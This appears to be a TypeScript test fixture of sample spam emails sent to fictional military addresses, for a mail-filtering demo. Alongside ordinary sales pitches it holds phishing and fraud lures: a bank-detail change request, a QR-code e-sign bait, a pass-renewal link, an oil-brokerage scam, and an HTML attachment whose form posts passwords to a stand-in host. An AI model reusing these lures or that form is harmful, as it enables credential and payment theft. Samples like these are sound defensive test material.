import type { Sample } from '../../../demo/form/sample.ts';
import { pdfFile, pictureFile, zipFile } from '../file-parts.ts';

export const flotsam: Sample[] = [
	{
		date: '2026-11-04T04:22:00+00:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'en',
		from: 'Graham Whitcombe <g.whitcombe@meridian-rotary-trade.example>',
		to: ['procurement@socom.ml'],
		bcc: ['contracting@southcom.ml', 'j4.supply@eucom.ml'],
		subject: 'Introduction – Meridian Rotary, stockist of ground support equipment',
		text: `Dear Sir or Madam,

I hope you will not mind my writing without an introduction. Meridian Rotary has for eleven years supplied airfields and flying clubs with ground power units, tow bars and cabin air heaters, new and reconditioned, and we believe that your organisation may have a use for them.

We hold some four hundred lines in our warehouse and dispatch within three working days. Institutional buyers receive fifteen per cent off the list until the end of January. A capability statement is attached for your colleagues in purchasing.

Might I telephone you next week? If another person is better placed, I should be obliged for the name.

Yours faithfully,

Graham Whitcombe
Business development

To be taken off our list, answer with the word "remove".
`,
		attachments: [
			pdfFile(
				'Meridian_capability_statement.pdf',
				`MERIDIAN ROTARY TRADE
Capability statement 2026

Ground power units, 28 V and 115 V, diesel and battery
Tow bars for forty types of aircraft
Cabin air heaters, wheel chocks, jacks and trestles
Reconditioning to the maker's drawings in our own shop

Fifteen per cent off the list for institutional buyers
Free delivery on orders above two pallets
`,
			),
		],
	},
	{
		date: '2026-11-17T14:39:00+00:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'en',
		from: 'Credit Control <creditcontrol@tidewel1-boiler.example>',
		to: ['vendorpay@dfas.ml'],
		headers: [
			['Reply-To', 'creditcontrol.dept@fastpost.example'],
			['References', '<INV-2611@tidewel1-boiler.example>'],
		],
		subject: 'RE: Outstanding remittance / change of banking partner',
		text: `Good day,

Following up on the below. As part of our annual audit our receiving account is presently under review and can not accept incoming ACH. Kindly place all pending remittances on hold and confirm by return which invoices are scheduled for this week's run, so our treasury can forward you the new beneficiary letter today.

Please treat as time sensitive and note our phone lines are being migrated, email is the best way to reach us.

Warm regards,
Credit Control

-----Original Message-----
Subject: Outstanding remittance
Kindly advise status of payment as our records show the account is 14 days past due. Thank you for your continued partnership.
`,
	},
	{
		date: '2026-11-24T06:58:00-08:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'en',
		from: 'usmc.ml Document Center <no-reply@sharevault-docs.example>',
		to: ['logistics.chief@usmc.ml'],
		subject: 'Complete with e-Sign: Q4 Compensation & Leave Carryover_logistics.chief.pdf',
		format: 'html',
		text: `<html><body style="background:#f3f2f1;font-family:Segoe UI,Arial">
<table width="560" align="center" cellpadding="24" style="background:#ffffff">
<tr><td style="background:#1b4f9c;color:#ffffff;font-size:18px">Human Resources sent you a document to review and sign</td></tr>
<tr><td>
<p>logistics.chief,</p>
<p>Your updated <b>Compensation and Leave Carryover</b> statement is awaiting your signature. For your protection this document can only be opened from a mobile device.</p>
<p>Scan the attached code with your phone camera and sign in with your work account. The document will be withdrawn in <b>24 hours</b>.</p>
<p style="font-size:11px;color:#777">Do not share this email. It contains a secure code that is unique to you. Powered by ShareVault e-Sign.</p>
</td></tr></table>
</body></html>
`,
		attachments: [
			pictureFile(
				'secure-code.png',
				`SCAN WITH YOUR PHONE
TO VIEW AND SIGN
EXPIRES IN 24 HOURS
`,
			),
		],
	},
	{
		date: '2026-11-10T03:11:00+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'fr',
		from: 'Service Documentation Fret <documentation@oceane-liners-fret.example>',
		to: ['logistique@interieur.ml'],
		subject: 'AVIS D’ARRIVÉE – B/L OLF2611Z07734 – documents originaux',
		text: `Cher client,

Votre envoi sous connaissement OLF2611Z07734 (2 x 40' HC) est arrivé au port de destination. À ce jour le dossier n'a pas été
accepté et des frais de surestaries courent depuis hier.

Merci d'ouvrir le jeu de documents en pièce jointe, de vérifier le nom du destinataire et de vous identifier avec votre adresse
professionnelle afin d'autoriser la remise.

Sans réponse sous 48 heures la marchandise sera retournée au chargeur à vos frais.

Équipe documentation
Message généré depuis un poste partagé, ne pas imprimer.
`,
		attachments: [
			zipFile(
				'BL_OLF2611Z07734_ORIGINAL.zip',
				'BL_OLF2611Z07734.pdf.html',
				`<html><title>Document protégé</title><body>
<p>Ce document est protégé. Saisissez votre adresse et le mot de passe de votre messagerie pour l'afficher.</p>
<form action="https://oceane-liners-fret.example/x/post.php" method="post"><input name="u"><input name="p" type="password"><button>Afficher</button></form>
</body></html>
`,
			),
		],
	},
	{
		date: '2026-11-21T23:17:00+00:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'fr',
		from: 'Me Thierry Kouassi-Brandt <mandat.jeta1@petro-mandataires.example>',
		to: ['carburants@defense.ml'],
		subject: 'Offre ferme JET A1 / EN590, FOB Rotterdam, mandat exclusif',
		text: `Excellence,

Nous sommes mandataires d'une raffinerie du Kazakhstan, laquelle dispose à ce jour en cuves louées à Rotterdam des produits suivants, disponibles pour acheteur réel et sérieux uniquement :

JET A1 grade aviation, 2 000 000 barils, brut 68 USD, net 66 USD
EN590 10 ppm, 300 000 tonnes, brut 410 USD, net 400 USD

Procédure non négociable :
1. L'acheteur adresse son ICPO sur papier à en-tête, avec copie de la licence et attestation de capacité bancaire.
2. Le vendeur remet la facture commerciale, l'acheteur signe et paie l'extension de cuve (TSR) pour cinq jours.
3. Dip test par la SGS, injection, paiement par MT103.

Commission de 2 USD par baril, partagée à parts égales, protégée par NCNDA. Les curieux et chaînes d'intermédiaires sont priés de s'abstenir, ce dossier étant strictement CONFIDENTIEL entre les parties.

Dans l'attente de votre lettre d'intention,

Maître T. Kouassi-Brandt
Cabinet international d'affaires pétrolières
`,
	},
	{
		date: '2026-11-13T08:05:00+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'nl',
		from: 'Mijn Defensie Pas <service@mijndefensiepas-verlengen.example>',
		to: ['f.mulder@defensie.ml', 'k.vos@defensie.ml', 'p.smits@defensie.ml'],
		subject: 'Uw pas verloopt op 15 november - actie vereist',
		format: 'html',
		charset: 'windows-1252',
		encoding: 'quoted-printable',
		text: `<div style="font-family:Verdana;font-size:13px;max-width:600px">
<p style="background:#154273;color:#fff;padding:14px">Rijksoverheid | Personeelspas</p>
<p>Beste collega,</p>
<p>Uit onze administratie blijkt dat uw multifunctionele pas nog niet is omgezet naar de nieuwe chip. Vanaf <b>15 november 2026</b> kunt u hiermee niet meer inloggen en geen toegangspoort openen.</p>
<p>U kunt de pas zelf verlengen. Houd uw identiteitsbewijs en uw bankpas bij de hand, er wordt ter controle &euro; 0,01 afgeschreven.</p>
<p><a href="https://mijndefensiepas-verlengen.example/start?c=nl" style="background:#e17000;color:#fff;padding:10px 18px;text-decoration:none">Pas verlengen</a></p>
<p>Doet u dit niet op tijd, dan wordt uw account uit veiligheidsoverwegingen geblokkeerd.</p>
<p>De Servicedesk</p>
</div>
`,
	},
	{
		date: '2026-11-25T09:33:00+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'nl',
		from: 'Daphne van Stellingplan <daphne@stellingplan-advies.example>',
		to: ['magazijn@mindef.ml'],
		subject: 'even kort over jullie magazijn?',
		text: `Hi,

Ik liep vanmorgen door jullie website en vroeg me af: wie gaat er bij jullie over de magazijninrichting? Veel van onze klanten in de logistiek halen 30% meer pallets uit dezelfde vierkante meters, zonder verbouwing. Geen verkooppraatje, gewoon een kop koffie en een gratis stellingscan t.w.v. 750 euro.

Schikt dinsdag of juist donderdag beter? Je kunt ook zelf een moment prikken: https://stellingplan-advies.example/agenda

Fijne dag!
Daphne

PS. Dit is mijn derde mailtje, zonder tegenbericht laat ik je met rust (beloofd).
`,
	},
];
